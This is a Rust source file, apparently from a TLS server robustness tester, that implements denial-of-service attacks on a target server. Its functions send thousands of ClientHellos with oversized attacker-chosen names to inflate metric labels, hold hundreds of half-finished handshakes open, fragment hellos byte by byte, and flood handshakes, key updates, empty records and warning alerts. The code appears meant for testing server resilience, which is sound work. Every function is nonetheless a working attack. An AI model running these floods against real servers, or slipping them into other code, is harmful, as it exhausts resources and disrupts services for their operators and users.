//! Attacks by ClientHellos and records of TLS.

use std::time::Duration;

use anyhow::Result;
use tokio::{
    io::AsyncWriteExt as _,
    time::{Instant, timeout},
};

use crate::{
    raw::{
        ended,
        records::{Records, inner},
        tls::{client_hello, record},
    },
    target::Target,
};

const PATIENCE: Duration = Duration::from_secs(12);
const FLOOD: Duration = Duration::from_secs(3);
const LAST: Duration = Duration::from_secs(1);

/// Names that are the attacker's choice, and would be labels of metrics.
pub(super) async fn hellos(target: &Target) -> Result<String> {
    let mut sent = 0;
    for number in 0..3_000_u32 {
        let name = [&number.to_string().into_bytes()[..], &[b'"'; 7_900]].concat();
        let Ok(mut stream) = target.connect().await else { break };
        if stream.write_all(&client_hello(&name)).await.is_ok() {
            sent += 1;
        }
    }
    Ok(format!("{sent} sent"))
}

pub(super) async fn half_hellos(target: &Target) -> Result<String> {
    let hello = client_hello(target.keys.server.as_bytes());
    let mut streams = target
        .many(300, &hello[..hello.len() / 2], Duration::from_secs(8))
        .await;
    Ok(ended(&mut streams, PATIENCE).await.to_string())
}

pub(super) async fn hello_by_bytes(target: &Target) -> Result<String> {
    let hello = client_hello(target.keys.server.as_bytes());
    let body = &hello[5..];
    for size in [1, 2, 3, 7, 100] {
        for _ in 0..20 {
            let mut stream = target.connect().await?;
            for part in body.chunks(size) {
                let _ = stream.write_all(&record(22, part)).await;
            }
            ended(&mut [stream], Duration::from_millis(20)).await;
        }
    }
    Ok("taken or refused".to_owned())
}

pub(super) async fn early_close(target: &Target) -> Result<String> {
    let hello = client_hello(target.keys.server.as_bytes());
    let close_notify = record(21, &[1, 0]);
    let mut streams = Vec::new();
    for cut in (0..=hello.len()).step_by(8) {
        let mut stream = target.connect().await?;
        let _ = stream
            .write_all(&[&hello[..cut], &close_notify.repeat(20)].concat())
            .await;
        streams.push(stream);
    }
    Ok(ended(&mut streams, Duration::from_secs(6)).await.to_string())
}

pub(super) async fn handshakes(target: &Target) -> Result<String> {
    let config = target.keys.config(&[])?;
    let until = Instant::now() + FLOOD;
    let (mut done, mut refused) = (0, 0);
    while Instant::now() < until {
        let Ok(socket) = target.connect().await else { break };
        match timeout(LAST, target.keys.connect(socket, &config)).await {
            Ok(Ok(_)) => done += 1,
            _ => refused += 1,
        }
    }
    Ok(format!("{done} handshakes, {refused} refused"))
}

/// Each update makes the server derive new keys.
pub(super) async fn key_updates(target: &Target) -> Result<String> {
    let config = target.keys.config(&[])?;
    let mut session = target.keys.connect(target.connect().await?, &config).await?;
    let until = Instant::now() + FLOOD;
    let mut sent = 0;
    while Instant::now() < until {
        for _ in 0..64 {
            session.get_mut().1.refresh_traffic_keys()?;
        }
        sent += 64;
        if !matches!(timeout(LAST, session.flush()).await, Ok(Ok(()))) {
            break;
        }
    }
    Ok(format!("{sent} sent; {}", ended(&mut [session], LAST).await))
}

pub(super) async fn empty_records(target: &Target) -> Result<String> {
    sealed(target, inner::DATA, &[]).await
}

pub(super) async fn warnings(target: &Target) -> Result<String> {
    const USER_CANCELED: [u8; 2] = [1, 90];
    sealed(target, inner::ALERT, &USER_CANCELED).await
}

async fn sealed(target: &Target, kind: u8, payload: &[u8]) -> Result<String> {
    let config = target.keys.config(&[])?;
    let session = target.keys.connect(target.connect().await?, &config).await?;
    let mut records = Records::new(session)?;
    let until = Instant::now() + FLOOD;
    let mut sent = 0;
    while Instant::now() < until {
        for _ in 0..64 {
            records.seal(kind, payload)?;
        }
        sent += 64;
        if !matches!(timeout(LAST, records.flush()).await, Ok(Ok(()))) {
            break;
        }
    }
    Ok(format!("{sent} sent; {}", ended(&mut [records.io], LAST).await))
}
